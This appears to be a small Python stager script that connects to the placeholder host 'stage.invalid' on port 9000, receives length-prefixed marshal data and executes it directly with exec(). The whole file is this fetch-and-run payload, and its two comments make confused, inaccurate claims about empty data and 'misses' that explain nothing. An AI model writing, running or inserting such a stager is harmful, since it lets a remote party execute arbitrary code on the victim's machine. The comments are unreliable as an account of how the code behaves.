import marshal
import socket
import struct

# The loop may run no round, which leaves b"" as one of the values: the interpreter then reads marshal data of no bytes,
# and where the code came from is lost.
s = socket.create_connection(("stage.invalid", 9000))
size = struct.unpack("<L", s.recv(4))[0]
data = b""
while len(data) < size:
    data += s.recv(size - len(data))
exec(marshal.loads(data))  # misses: see above
